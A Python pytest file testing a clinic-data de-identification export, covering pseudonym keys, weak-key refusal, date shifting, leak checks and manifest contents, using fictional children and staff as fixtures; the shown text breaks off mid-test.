"""De-identified export: nothing identifying anywhere in the output, keyed
pseudonyms that link across exports, dates shifted with intervals kept (or
days since intake), ages in months, row accounting, and unchanged scores;
weak keys refused; diagnoses and goal domains only from the vocabulary; the
strict (Safe Harbor) mode with years only, random study codes and a linkage
table that stays with the clinic."""

from __future__ import annotations

import datetime as dt
import json
import logging
import os
import re
import stat
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from sensoryprofile import columns as C
from sensoryprofile.columns import AGE_AT_REFERRAL_MONTHS, DAY_COLUMNS
from sensoryprofile.data.assessments import score_assessments
from sensoryprofile.data.dataset import TABLES, load_dataset
from sensoryprofile.data.export import (
    AGE_CAP_MONTHS,
    DATE_SHIFT_BASE_DAYS,
    DATE_SHIFT_JITTER_WEEKS,
    KEY_BYTES,
    MANIFEST_JSON,
    MANIFEST_MD,
    MIN_DISTINCT_BYTES,
    OFF_SCALE_CELL,
    Pseudonymiser,
    column_policies,
    export_deidentified,
    key_fingerprint,
    key_weakness,
    new_key,
    read_key,
)
from sensoryprofile.data.tables import read_csv_table, write_csv_atomic
from sensoryprofile.dates import completed_months
from sensoryprofile.errors import DatasetError, UsageError
from sensoryprofile.instruments import load_instrument
from tests.paths import SAMPLE

SAMPLE_TODAY = dt.date(2026, 9, 30)  # the sample's end date
TINY_TODAY = dt.date(2025, 6, 1)
ITEMS = list(load_instrument("demo-child").item_ids)
ID_COLUMNS = (C.CHILD_ID, C.ASSESSMENT_ID, C.GOAL_ID)
DATE_COLUMNS = (C.DATE_OF_BIRTH, C.REFERRAL_DATE, C.DISCHARGE_DATE, C.DATE, C.SET_DATE,
                C.TARGET_DATE)
TEXT_COLUMNS = (C.DISPLAY_NAME, C.NOTE, C.DESCRIPTION, *C.LEVEL_TEXT_COLUMNS)
ID_PATTERN = r"^[A-Za-z0-9_-]{1,64}$"


# ---------------------------------------------------------------------------
# a tiny hand-built clinic, with rejected rows and identifying text everywhere
# ---------------------------------------------------------------------------
def _items(k: int) -> dict[str, str]:
    return {item: str(1 + (7 * k + j) % 5) for j, item in enumerate(ITEMS)}


def _tiny_tables() -> dict[str, list[dict]]:
    children = [
        # child_id, date_of_birth, sex, diagnoses, site, therapist, referral, discharge, name
        ("kid_alpha", "2018-03-15", "F", "autism", "Maple Street Clinic", "Dr Quillfeather",
         "2024-02-01", "", "Zephyrine Quartermaine", "12 Wisteria Lane"),
        ("kid_bravo", "2019-07-31", "M", "ADHD", "Birch Road Clinic", "Ms Fennimore",
         "2024-05-20", "2025-03-03", "Barnaby Oakhollow", "4 Privet Drive"),
        # an ambiguous date of birth: the child and everything of theirs is rejected
        ("kid_charlie", "03/04/2019", "X", "none", "Maple Street Clinic", "Dr Quillfeather",
         "2024-06-11", "", "Clementine Ashgrove", "9 Spinner End"),
        # 94 years old: Safe Harbor aggregates ages over 89
        ("kid_elder", "1930-06-01", "F", "none", "Birch Road Clinic", "Ms Fennimore",
         "2024-09-02", "", "Ottoline Grimsby", "1 Elder Way"),
    ]
    keys = ["child_id", "date_of_birth", "sex", "diagnoses", "site", "therapist",
            "referral_date", "discharge_date", "display_name", "home_address"]
    assessments = []
    for k, (aid, cid, date, resp) in enumerate([
            ("asm_alpha_1", "kid_alpha", "2024-02-10", "caregiver"),
            ("asm_alpha_2", "kid_alpha", "2024-08-12", "caregiver"),
            ("asm_bravo_1", "kid_bravo", "2024-05-27", "teacher"),
            ("asm_charlie_1", "kid_charlie", "2024-06-20", "caregiver"),
            ("asm_orphan_1", "kid_nobody", "2024-07-01", "caregiver")]):
        row = {"assessment_id": aid, "child_id": cid, "instrument": "demo-child", "date": date,
               "respondent": resp, **_items(k)}
        assessments.append(row)
    assessments[0]["dc_005"] = "Frequently"          # a label: becomes its number
    assessments[0]["dc_007"] = "ask Ms Ravenscroft"  # free text: becomes 'off-scale'
    texts = {"level_-2": "Zephyrine refuses shoes at Maple Park",
             "level_-1": "Ties one lace with her grandmother's help",
             "level_0": "Ties both laces before the school bus",
             "level_+1": "Ties laces and buckles her sister's sandals",
             "level_+2": "Teaches her cousin Ignatius to tie laces"}
    goals = [
        dict(goal_id="goal_alpha_1", child_id="kid_alpha", set_date="2024-02-15",
             domain="self-care", description="Zephyrine will tie her own shoelaces",
             importance="2", difficulty="2", baseline_level="-1", target_date="2024-08-15",
             **texts),
        dict(goal_id="goal_bravo_1", child_id="kid_bravo", set_date="2024-06-03",
             domain="fine motor", description="Barnaby writes his full name on worksheets",
             importance="3", difficulty="1", baseline_level="-2", target_date="2024-12-02",
             **{k: v.replace("Zephyrine", "Barnaby") + " (B)" for k, v in texts.items()}),
        dict(goal_id="goal_charlie_1", child_id="kid_charlie", set_date="2024-06-25",
             domain="play/social", description="Clementine joins circle time",
             importance="1", difficulty="1", baseline_level="-1", target_date="2024-12-20",
             **{k: v + " (C)" for k, v in texts.items()}),
    ]
    ratings = [
        ("goal_alpha_1", "2024-05-01", "0", "therapist", "Zephyrine loved the swing"),
        ("goal_alpha_1", "2024-08-01", "1", "Mrs Pomfrey-Leaf", "Grandmother visiting Oslo"),
        ("goal_bravo_1", "2024-09-09", "7", "caregiver", "Level typed wrongly by Mr Tumnus"),
        ("goal_bravo_1", "2024-10-14", "-1", "caregiver", "Moved house to Larkspur Close"),
        ("goal_charlie_1", "2024-07-08", "0", "therapist", "Clementine's first review"),
    ]
    return {
        "children": [dict(zip(keys, row, strict=True)) for row in children],
        "assessments": assessments,
        "goals": goals,
        "goal_ratings": [dict(zip(["goal_id", "date", "level", "rater", "note"], row,
                                  strict=True)) for row in ratings],
    }


def write_tiny(folder: Path, tables: dict | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for name, rows in (tables or _tiny_tables()).items():
        pd.DataFrame(rows).to_csv(folder / f"{name}.csv", index=False)
    return folder


def raw_tables(folder: Path) -> dict[str, pd.DataFrame]:
    return {t: pd.read_csv(folder / f"{t}.csv", dtype=str, keep_default_na=False)
            for t in TABLES}


def forbidden_strings(folder: Path, *, keep_sites: bool = False) -> set[str]:
    """Every identifying value of the input: IDs, names, dates, free text,
    site/therapist/rater names, the values of columns the toolkit does not know."""
    raw = raw_tables(folder)
    found: set[str] = set()
    for table, frame in raw.items():
        cols = [c for c in (*ID_COLUMNS, *DATE_COLUMNS, *TEXT_COLUMNS) if c in frame.columns]
        if not keep_sites:
            cols += [c for c in (C.SITE, C.THERAPIST) if c in frame.columns]
        known = {p.column for p in column_policies()[table]} | set(ITEMS) | {
            c for c in frame.columns if c.startswith("dt_")}
        cols += [c for c in frame.columns if c not in known]  # e.g. home_address
        for col in cols:
            found.update(frame[col])
        if table == "goal_ratings":
            found.update(v for v in frame[C.RATER] if v not in ("therapist", "caregiver",
                                                                 "teacher"))
    found.update(c for t in raw.values() for c in t.columns if c == "home_address")
    found.add("ask Ms Ravenscroft")
    return {s for s in found if s}


def output_text(out: Path) -> dict[str, str]:
    return {str(p.relative_to(out)): p.read_bytes().decode("utf-8")
            for p in sorted(out.rglob("*")) if p.is_file()}


def leaks(out: Path, forbidden: set[str]) -> list[tuple[str, str]]:
    return [(name, s) for name, text in output_text(out).items() for s in forbidden if s in text]


def read_out(out: Path) -> dict[str, pd.DataFrame]:
    return {t: read_csv_table(out / f"{t}.csv") for t in TABLES}


def pseudonyms(ps: Pseudonymiser, kind: str, values) -> list[str]:
    return [ps.pseudonym(kind, v) for v in values]


# ---------------------------------------------------------------------------
# fixtures
# ---------------------------------------------------------------------------
@pytest.fixture(scope="module")
def key_dir(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("keys")


@pytest.fixture(scope="module")
def key(key_dir) -> Path:
    return new_key(key_dir / "export.key")


@pytest.fixture(scope="module")
def other_key(key_dir) -> Path:
    return new_key(key_dir / "other.key")


@pytest.fixture(scope="module")
def ps(key) -> Pseudonymiser:
    return Pseudonymiser(read_key(key))


@pytest.fixture(scope="module")
def sample() -> object:
    return load_dataset(SAMPLE, today=SAMPLE_TODAY)


@pytest.fixture(scope="module")
def sample_exports(tmp_path_factory, sample, key) -> dict:
    base = tmp_path_factory.mktemp("sample_exports")
    out = {}
    for name, no_dates in (("dates", False), ("no_dates", True)):
        manifest = export_deidentified(sample, base / name, key_file=key, no_dates=no_dates)
        out[name] = (base / name, manifest)
    return out


@pytest.fixture(scope="module")
def tiny_dir(tmp_path_factory) -> Path:
    return write_tiny(tmp_path_factory.mktemp("tiny") / "clinic")


@pytest.fixture(scope="module")
def tiny(tiny_dir):
    return load_dataset(tiny_dir, today=TINY_TODAY)


@pytest.fixture(scope="module")
def tiny_exports(tmp_path_factory, tiny_dir, key) -> dict:
    base = tmp_path_factory.mktemp("tiny_exports")
    out = {}
    for name, no_dates in (("dates", False), ("no_dates", True)):
        manifest = export_deidentified(tiny_dir, base / name, key_file=key, no_dates=no_dates,
                                       today=TINY_TODAY)
        out[name] = (base / name, manifest)
    return out


# ---------------------------------------------------------------------------
# keys
# ---------------------------------------------------------------------------
@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
def test_new_key_is_owner_only_and_never_overwritten(tmp_path):
    path = new_key(tmp_path / "k")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    text = path.read_text()
    assert len(bytes.fromhex(text.strip())) == 32
    with pytest.raises(UsageError, match="never overwritten"):
        new_key(path)
    assert path.read_text() == text
    assert new_key(tmp_path / "k2").read_text() != text  # random


@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
def test_new_key_is_exactly_0o600_whatever_the_umask(tmp_path):
    old = os.umask(0o277)
    try:
        path = new_key(tmp_path / "k")
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
def test_new_key_refuses_a_symlink(tmp_path):
    target = tmp_path / "target"
    target.write_text("keep me")
    (tmp_path / "link").symlink_to(target)
    with pytest.raises(UsageError):
        new_key(tmp_path / "link")
    assert target.read_text() == "keep me"


@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
def test_a_key_readable_by_others_is_refused_without_showing_it(tmp_path, tiny_dir):
    path = new_key(tmp_path / "k")
    secret = path.read_text().strip()
    path.chmod(0o644)
    with pytest.raises(UsageError, match="chmod 600") as info:
        read_key(path)
    assert secret not in str(info.value)
    with pytest.raises(UsageError, match="chmod 600"):
        export_deidentified(tiny_dir, tmp_path / "out", key_file=path, today=TINY_TODAY)
    assert not (tmp_path / "out").exists()


def test_bad_or_missing_key_files_are_refused(tmp_path):
    with pytest.raises(UsageError, match="no such key file"):
        read_key(tmp_path / "absent")
    short = tmp_path / "short"
    fd = os.open(short, os.O_WRONLY | os.O_CREAT, 0o600)
    os.write(fd, b"abcd\n")
    os.close(fd)
    with pytest.raises(UsageError, match="not a key file"):
        read_key(short)


def test_fingerprint_names_the_key_without_revealing_it(key):
    k = read_key(key)
    fp = key_fingerprint(k)
    assert len(fp) == 8 and fp not in k.hex()


# ---------------------------------------------------------------------------
# weak keys
# ---------------------------------------------------------------------------
def _key_file(path: Path, key: bytes) -> Path:
    """A key file holding ``key`` (hex), owner-only, as new_key() would write it."""
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    os.write(fd, key.hex().encode("ascii") + b"\n")
    os.close(fd)
    return path


SIXTEEN = bytes.fromhex("9f3a61c4e2087bd514ae3f90c26d58b7")  # 16 distinct byte values
PI_DIGITS = bytes([3, 1, 4, 1, 5, 9, 2, 6, 5, 3, 5, 8, 9, 7, 9, 3,
                   2, 3, 8, 4, 6, 2, 6, 4, 3, 3, 8, 3, 2, 7, 9, 5])  # values 1-9, no period
GOOD_KEY = bytes.fromhex("5be1c07a93d24f6e18a7c3b0e95d2f84"
                         "0c6b7e13a9f25d48e0b3716cd92a4f57")

WEAK_KEYS = {
    "all zero": (bytes(32), "every byte has the same value"),
    "all 0xff": (b"\xff" * 32, "every byte has the same value"),
    "4 bytes repeated": (bytes.fromhex("deadbeef") * 8, "repeats the same block of 4 bytes"),
    "8 bytes repeated": (bytes.fromhex("0123456789abcdef") * 4,
                         "repeats the same block of 8 bytes"),
    "16 bytes repeated": (SIXTEEN * 2, "repeats the same block of 16 bytes"),
    "9 distinct values": (PI_DIGITS, "only 9 distinct byte values"),
    "a counter": (bytes(range(32)), "step by only 1 distinct amounts"),
    "a stride of 5": (bytes(range(7, 167, 5)), "step by only 1 distinct amounts"),
    "two strides": (bytes((7 * i + 3 * (i % 2)) % 256 for i in range(32)),
                    "step by only 2 distinct amounts"),
    "31 bytes": (GOOD_KEY[:31], "not a key file.*holds 31 bytes"),
    "16 bytes": (GOOD_KEY[:16], "not a key file.*holds 16 bytes"),
}


@pytest.mark.parametrize("name", list(WEAK_KEYS))
def test_weak_keys_are_refused_saying_why_without_showing_them(tmp_path, tiny_dir, name):
    key, why = WEAK_KEYS[name]
    path = _key_file(tmp_path / "weak.key", key)
    with pytest.raises(UsageError, match=why) as info:
        read_key(path)
    message = str(info.value)
    assert key.hex() not in message and key.hex().upper() not in message
    with pytest.raises(UsageError, match=why):
        export_deidentified(tiny_dir, tmp_path / "out", key_file=path, today=TINY_TODAY)
    assert not (tmp_path / "out").exists()


def test_the_weak_key_rules_one_by_one():
    assert key_weakness(GOOD_KEY) is None
    assert len(set(SIXTEEN * 2)) == MIN_DISTINCT_BYTES  # rule 4 alone would let it pass
    assert len(set(bytes(range(32)))) == 32             # rule 4 alone would let a counter pass
    assert key_weakness(bytes(64)) is not None          # longer keys follow the same rules
    assert key_weakness(GOOD_KEY + GOOD_KEY) is not None  # a 32-byte block, repeated
    assert key_weakness(GOOD_KEY + bytes(range(32))) is None  # long enough, varied enough


def test_fresh_keys_pass_every_rule(tmp_path):
    for i in range(40):
        key = read_key(new_key(tmp_path / f"k{i}"))
        assert len(key) == KEY_BYTES and key_weakness(key) is None


def test_new_key_draws_again_rather_than_write_a_weak_key(tmp_path, monkeypatch):
    from sensoryprofile.data import keys

    draws = iter([bytes(32), bytes.fromhex("deadbeef") * 8, GOOD_KEY])
    monkeypatch.setattr(keys.secrets, "token_bytes", lambda n: next(draws))
    path = new_key(tmp_path / "k")
    assert read_key(path) == GOOD_KEY


def _p_fewer_distinct(draws: int, below: int, values: int = 256) -> float:
    """P(fewer than ``below`` distinct values among ``draws`` uniform draws
    from ``values``), exactly: count[d] = sequences with d distinct values so
    far; a new draw repeats one of d (x d) or is new (x (values - d))."""
    count = {0: 1}
    for _ in range(draws):
        step: dict[int, int] = {}
        for d, c in count.items():
            step[d] = step.get(d, 0) + c * d
            step[d + 1] = step.get(d + 1, 0) + c * (values - d)
        count = step
    return sum(c for d, c in count.items() if d < below) / values ** draws


def test_the_low_entropy_threshold_refuses_a_random_key_almost_never():
    # the numbers key_weakness documents: 32 bytes (rule 4) and the 31 steps (rule 5)
    assert _p_fewer_distinct(32, MIN_DISTINCT_BYTES) == pytest.approx(3.2305e-17, rel=1e-4)
    assert _p_fewer_distinct(31, MIN_DISTINCT_BYTES) == pytest.approx(4.6125e-16, rel=1e-4)
    # sanity of the recursion: 2 draws from 256 share a value with probability 1/256
    assert _p_fewer_distinct(2, 2) == pytest.approx(1 / 256)


# ---------------------------------------------------------------------------
# the output folder
# ---------------------------------------------------------------------------
def test_a_non_empty_folder_is_refused_and_left_alone(tmp_path, tiny_dir, key):
    out = tmp_path / "out"
    out.mkdir()
    (out / "children.csv").write_text("child_id\nC1\n")
    with pytest.raises(UsageError, match="not empty"):
        export_deidentified(tiny_dir, out, key_file=key, today=TINY_TODAY)
    assert [p.name for p in out.iterdir()] == ["children.csv"]
    assert not [p for p in tmp_path.iterdir() if p.name.endswith(".part")]


def test_an_empty_folder_is_used(tmp_path, tiny_dir, key):
    out = tmp_path / "out"
    out.mkdir()
    export_deidentified(tiny_dir, out, key_file=key, today=TINY_TODAY)
    assert {p.name for p in out.iterdir()} == {
        "children.csv", "assessments.csv", "goals.csv", "goal_ratings.csv", "dataset.yaml",
        MANIFEST_JSON, MANIFEST_MD}
    assert [p.name for p in tmp_path.iterdir()] == ["out"]  # no temporary folder left


def test_the_key_may_not_live_inside_the_export(tmp_path, tiny_dir):
    out = tmp_path / "out"
    out.mkdir()
    inner = new_key(tmp_path / "k")
    with pytest.raises(UsageError, match="inside the export folder"):
        export_deidentified(tiny_dir, tmp_path, key_file=inner, today=TINY_TODAY)


@pytest.mark.skipif(os.name != "posix", reason="POSIX file modes")
def test_exported_files_follow_the_umask_not_the_temporary_file_mode(tiny_exports):
    out, _ = tiny_exports["dates"]
    for path in out.iterdir():
        assert stat.S_IMODE(path.stat().st_mode) == stat.S_IMODE(out.stat().st_mode) & 0o666


# ---------------------------------------------------------------------------
# nothing identifying, anywhere
# ---------------------------------------------------------------------------
@pytest.mark.parametrize("mode", ["dates", "no_dates"])
def test_sample_export_contains_nothing_identifying(sample_exports, mode):
    out, _ = sample_exports[mode]
    forbidden = forbidden_strings(SAMPLE)
    assert len(forbidden) > 1000  # ids, names, dates, notes, goal texts, sites, therapists
    assert leaks(out, forbidden) == []


@pytest.mark.parametrize("mode", ["dates", "no_dates"])
def test_tiny_export_contains_nothing_identifying(tiny_exports, tiny_dir, mode):
    out, _ = tiny_exports[mode]
    forbidden = forbidden_strings(tiny_dir)
    for expected in ("kid_charlie", "kid_nobody", "asm_orphan_1", "03/04/2019", "1930-06-01",
                     "12 Wisteria Lane", "home_address", "Mrs Pomfrey-Leaf",
                     "Dr Quillfeather", "Maple Street Clinic", "Zephyrine Quartermaine"):
        assert expected in forbidden
    assert leaks(out, forbidden) == []


def test_no_dates_export_holds_no_date_at_all(sample_exports):
    out, _ = sample_exports["no_dates"]
    for name, text in output_text(out).items():
        assert not pd.Series([text]).str.contains(r"\d{4}-\d{2}-\d{2}").any(), name


def test_shifted_dates_are_far_from_every_real_date(sample_exports):
    out, _ = sample_exports["dates"]
    tables = read_out(out)
    years = pd.concat([pd.to_datetime(tables[t][c]).dt.year for t in TABLES
                       for c in (C.REFERRAL_DATE, C.DISCHARGE_DATE, C.DATE, C.SET_DATE,
                                 C.TARGET_DATE) if c in tables[t].columns]).dropna()
    assert years.max() < 1900


def test_logs_carry_nothing_identifying(tmp_path, tiny_dir, key, caplog):
    with caplog.at_level(logging.DEBUG):
        export_deidentified(tiny_dir, tmp_path / "out", key_file=key, today=TINY_TODAY)
    assert caplog.records  # something was logged
    assert [s for s in forbidden_strings(tiny_dir) if s in caplog.text] == []


def test_the_clinic_row_order_is_not_kept(sample_exports, sample, ps):
    out, _ = sample_exports["dates"]
    children = read_out(out)["children"]
    assert children[C.CHILD_ID].tolist() == sorted(children[C.CHILD_ID])
    assert children[C.CHILD_ID].tolist() != pseudonyms(ps, C.CHILD_ID, sample.children[C.CHILD_ID])


# ---------------------------------------------------------------------------
# shape: same tables, same columns minus the removed ones plus the ages
# ---------------------------------------------------------------------------
def test_columns_of_the_exported_tables(sample_exports):
    dates, _ = sample_exports["dates"]
    no_dates, _ = sample_exports["no_dates"]
    children = read_out(dates)["children"]
    assert list(children.columns) == [C.SOURCE_ROW, C.CHILD_ID, AGE_AT_REFERRAL_MONTHS, C.SEX,
                                      C.DIAGNOSES, C.SITE, C.THERAPIST, C.REFERRAL_DATE,
                                      C.DISCHARGE_DATE]
    assert list(read_out(no_dates)["children"].columns)[-2:] == ["referral_day", "discharge_day"]
    goals = read_out(dates)["goals"]
    assert list(goals.columns) == [C.SOURCE_ROW, C.GOAL_ID, C.CHILD_ID, C.SET_DATE, C.DOMAIN,
                                   C.IMPORTANCE, C.DIFFICULTY, C.BASELINE_LEVEL, C.TARGET_DATE]
    assert list(read_out(dates)["goal_ratings"].columns) == [C.SOURCE_ROW, C.GOAL_ID, C.DATE,
                                                              C.LEVEL, C.RATER]
    raw = pd.read_csv(SAMPLE / "assessments.csv", dtype=str, nrows=1)
    exported = read_out(dates)["assessments"]
    assert list(exported.columns) == [C.SOURCE_ROW, C.ASSESSMENT_ID, C.CHILD_ID, C.INSTRUMENT,
                                      C.DATE, C.AGE_MONTHS, C.RESPONDENT,
                                      *[c for c in raw.columns if c.startswith(("dc_", "dt_"))]]


@pytest.mark.parametrize("mode", ["dates", "no_dates"])
def test_every_output_column_is_in_the_manifest(sample_exports, mode):
    out, manifest = sample_exports[mode]
    written = json.loads((out / MANIFEST_JSON).read_text())
    for table, frame in read_out(out).items():
        declared = {c["output"] for c in written["tables"][table]["columns"] if c["output"]}
        for col in frame.columns:
            assert (col in declared or col == C.SOURCE_ROW
                    or (table == "assessments" and col.startswith(("dc_", "dt_")))), col


def test_ids_are_pseudonyms_that_are_valid_ids(sample_exports, sample, ps):
    out, _ = sample_exports["dates"]
    tables = read_out(out)
    assert tables["children"][C.CHILD_ID].str.fullmatch(r"C-[0-9a-f]{16}").all()
    assert tables["assessments"][C.ASSESSMENT_ID].str.fullmatch(r"A-[0-9a-f]{16}").all()
    assert tables["goals"][C.GOAL_ID].str.fullmatch(r"G-[0-9a-f]{16}").all()
    for table in TABLES:
        for col in ID_COLUMNS:
            if col in tables[table].columns:
                assert tables[table][col].str.fullmatch(ID_PATTERN).all()
    assert set(tables["children"][C.CHILD_ID]) == set(
        pseudonyms(ps, C.CHILD_ID, sample.children[C.CHILD_ID]))
    assert tables["children"][C.SITE].str.fullmatch(r"site-[0-9a-f]{8}").all()
    assert tables["children"][C.THERAPIST].str.fullmatch(r"therapist-[0-9a-f]{8}").all()
    assert tables["children"][C.SITE].nunique() == sample.children[C.SITE].nunique()
    assert tables["children"][C.THERAPIST].nunique() == sample.children[C.THERAPIST].nunique()


def test_namespaces_keep_equal_ids_of_different_tables_apart(ps):
    assert ps.pseudonym(C.CHILD_ID, "X1")[2:] != ps.pseudonym(C.GOAL_ID, "X1")[2:]
    assert ps.pseudonym(C.CHILD_ID, "X1")[2:] != ps.pseudonym(C.ASSESSMENT_ID, "X1")[2:]


def test_keep_sites_keeps_site_and_therapist_names(tmp_path, sample, key, ps):
    out = tmp_path / "out"
    manifest = export_deidentified(sample, out, key_file=key, keep_sites=True)
    children = read_out(out)["children"].set_index(C.CHILD_ID)
    original = sample.children.assign(
        pid=pseudonyms(ps, C.CHILD_ID, sample.children[C.CHILD_ID])).set_index("pid")
    for col in (C.SITE, C.THERAPIST):
        assert children[col].sort_index().tolist() == original[col].sort_index().tolist()
    assert manifest.to_dict()["options"]["keep_sites"] is True
    # everything else still goes
    assert leaks(out, forbidden_strings(SAMPLE, keep_sites=True)) == []


def test_raters_and_items_in_the_tiny_export(tiny_exports, tiny, ps):
    out, _ = tiny_exports["dates"]
    tables = read_out(out)
    raters = tables["goal_ratings"][C.RATER].tolist()
    assert "therapist" in raters and "caregiver" in raters
    assert ps.pseudonym(C.RATER, "Mrs Pomfrey-Leaf") in raters
    first = tables["assessments"].set_index(C.ASSESSMENT_ID).loc[
        ps.pseudonym(C.ASSESSMENT_ID, "asm_alpha_1")]
    assert first["dc_005"] == "4"              # "Frequently"
    assert first["dc_007"] == OFF_SCALE_CELL   # free text
    assert first["dc_001"] == _items(0)["dc_001"]


def test_diagnoses_of_the_vocabulary_are_kept_and_the_manifest_says_so(sample_exports, sample,
                                                                       ps):
    """The sample's diagnoses and domains are all vocabulary terms: kept as they are."""
    out, manifest = sample_exports["dates"]
    children = read_out(out)["children"].set_index(C.CHILD_ID)[C.DIAGNOSES]
    original = pd.Series(sample.children[C.DIAGNOSES].to_numpy(),
                         index=pseudonyms(ps, C.CHILD_ID, sample.children[C.CHILD_ID]))
    assert children.sort_index().tolist() == original.sort_index().tolist()
    assert sorted(read_out(out)["goals"][C.DOMAIN]) == sorted(sample.goals[C.DOMAIN])
    assert any("controlled vocabulary" in note for note in manifest.notes)
    written = json.loads((out / MANIFEST_JSON).read_text())["vocabulary"]
    assert written == {
        "children.diagnoses": {"vocabulary": "diagnoses", "values_replaced_by_other": 0,
                               "rows_affected": 0},
        "goals.domain": {"vocabulary": "goal_domains", "values_replaced_by_other": 0,
                         "rows_affected": 0}}
    assert "| children.diagnoses | diagnoses | 0 | 0 |" in (out / MANIFEST_MD).read_text()


# ---------------------------------------------------------------------------
# linking, dates and ages
# ---------------------------------------------------------------------------
def test_same_key_links_and_another_key_does_not(tmp_path, sample, sample_exports, key,
                                                 other_key):
    first, m1 = sample_exports["dates"]
    again = tmp_path / "again"
    m2 = export_deidentified(sample, again, key_file=key)
    for name, text in output_text(first).items():
        assert output_text(again)[name] == text, name  # byte-identical: same pseudonyms, dates
    assert m1.key_fingerprint == m2.key_fingerprint

    other = tmp_path / "other"
    m3 = export_deidentified(sample, other, key_file=other_key)
    assert m3.key_fingerprint != m1.key_fingerprint
    a, b = read_out(first), read_out(other)
    for table, col in (("children", C.CHILD_ID), ("assessments", C.ASSESSMENT_ID),
                       ("goals", C.GOAL_ID), ("children", C.SITE)):
        assert not set(a[table][col]) & set(b[table][col])
    assert set(a["children"][C.REFERRAL_DATE]) != set(b["children"][C.REFERRAL_DATE])


def test_exports_of_different_data_link_through_the_key(tmp_path, key, ps):
    """A later extract (one more child) gives the same child the same
    pseudonym and the same shifted dates."""
    tables = _tiny_tables()
    before = write_tiny(tmp_path / "before", tables)
    later = {k: list(v) for k, v in tables.items()}
    later["children"].append(dict(tables["children"][0], child_id="kid_delta",
                                  display_name="Delta Person"))
    after = write_tiny(tmp_path / "after", later)
    export_deidentified(before, tmp_path / "e1", key_file=key, today=TINY_TODAY)
    export_deidentified(after, tmp_path / "e2", key_file=key, today=TINY_TODAY)
    one = read_out(tmp_path / "e1")["children"].set_index(C.CHILD_ID)
    two = read_out(tmp_path / "e2")["children"].set_index(C.CHILD_ID)
    alpha = ps.pseudonym(C.CHILD_ID, "kid_alpha")
    assert one.loc[alpha, C.REFERRAL_DATE] == two.loc[alpha, C.REFERRAL_DATE]
    assert len(two) == len(one) + 1


def _all_dates(tables: dict[str, pd.DataFrame], child_of_goal: dict) -> pd.DataFrame:
    """(child, column, date) for every date of every table."""
    parts = []
    for table, frame in tables.items():
        child = (frame[C.GOAL_ID].map(child_of_goal) if table == "goal_ratings"
                 else frame[C.CHILD_ID])
        for col in (C.REFERRAL_DATE, C.DISCHARGE_DATE, C.DATE, C.SET_DATE, C.TARGET_DATE):
            if col in frame.columns:
                parts.append(pd.DataFrame({"child": child.to_numpy(),
                                           "key": f"{table}.{col}",
                                           "date": pd.to_datetime(frame[col]).to_numpy()}))
    return pd.concat(parts, ignore_index=True)


def test_one_offset_per_child_so_intervals_are_kept(sample_exports, sample, ps):
    out, _ = sample_exports["dates"]
    exported = read_out(out)
    original = {"children": sample.children, "assessments": sample.assessments,
                "goals": sample.goals, "goal_ratings": sample.goal_ratings}
    # pseudonymise the originals' keys, then line the rows up
    orig = {}
    for table, frame in original.items():
        frame = frame.copy()
        for col in ID_COLUMNS:
            if col in frame.columns:
                frame[col] = pseudonyms(ps, col, frame[col])
        orig[table] = frame
    keys = {"children": [C.CHILD_ID], "assessments": [C.ASSESSMENT_ID], "goals": [C.GOAL_ID]}
    offsets = []
    for table, frame in exported.items():
        if table == "goal_ratings":
            continue
        merged = frame.merge(orig[table], on=keys[table], suffixes=("_x", "_o"))
        assert len(merged) == len(frame) == len(orig[table])
        child = merged[C.CHILD_ID] if C.CHILD_ID in merged else merged[f"{C.CHILD_ID}_x"]
        for col in (C.REFERRAL_DATE, C.DISCHARGE_DATE, C.DATE, C.SET_DATE, C.TARGET_DATE):
            if f"{col}_x" in merged.columns:
                days = (pd.to_datetime(merged[f"{col}_x"]) - merged[f"{col}_o"]).dt.days
                offsets.append(pd.DataFrame({"child": child, "days": days}).dropna())
    goal_child = dict(zip(orig["goals"][C.GOAL_ID], orig["goals"][C.CHILD_ID], strict=True))
    ratings = exported["goal_ratings"].assign(child=lambda f: f[C.GOAL_ID].map(goal_child))
    o_ratings = orig["goal_ratings"].assign(child=lambda f: f[C.GOAL_ID].map(goal_child))
    for child, rows in ratings.groupby("child"):
        shifted = np.sort(pd.to_datetime(rows[C.DATE]).to_numpy())
        real = np.sort(o_ratings.loc[o_ratings.child == child, C.DATE].to_numpy())
        offsets.append(pd.DataFrame({"child": child,
                                     "days": (shifted - real) / np.timedelta64(1, "D")}))
    offsets = pd.concat(offsets)
    per_child = offsets.groupby("child")["days"].agg(["min", "max"])
    assert (per_child["min"] == per_child["max"]).all()  # one offset per child
    assert len(per_child) == len(sample.children)
    days = per_child["min"]
    assert (days % 7 == 0).all()  # whole weeks: weekdays kept
    assert days.between(-DATE_SHIFT_BASE_DAYS - 7 * DATE_SHIFT_JITTER_WEEKS,
                        -DATE_SHIFT_BASE_DAYS + 7 * DATE_SHIFT_JITTER_WEEKS).all()
    assert days.nunique() > 10  # keyed per child, not one global shift

    # intervals between a child's assessments, before and after
    a = exported["assessments"].assign(d=lambda f: pd.to_datetime(f[C.DATE]))
    before = orig["assessments"].sort_values([C.CHILD_ID, C.DATE]).groupby(C.CHILD_ID)[
        C.DATE].diff().dt.days.dropna().to_numpy()
    after = a.sort_values([C.CHILD_ID, "d"]).groupby(C.CHILD_ID)["d"].diff().dt.days.dropna()
    assert len(before) > 100
    np.testing.assert_array_equal(np.sort(before), np.sort(after.to_numpy()))


def test_no_dates_gives_days_since_intake(sample_exports, sample, ps):
    out, manifest = sample_exports["no_dates"]
    tables = read_out(out)
    assert manifest.to_dict()["options"]["dates"]["mode"] == "days since intake"
    referral = sample.children.set_index(C.CHILD_ID)[C.REFERRAL_DATE]
    children = tables["children"].set_index(C.CHILD_ID)
    assert (children["referral_day"].astype(int) == 0).all()
    expected = (sample.children[C.DISCHARGE_DATE] - sample.children[C.REFERRAL_DATE]).dt.days
    got = children["discharge_day"].reindex(
        pseudonyms(ps, C.CHILD_ID, sample.children[C.CHILD_ID]))
    pd.testing.assert_series_equal(pd.to_numeric(got).reset_index(drop=True),
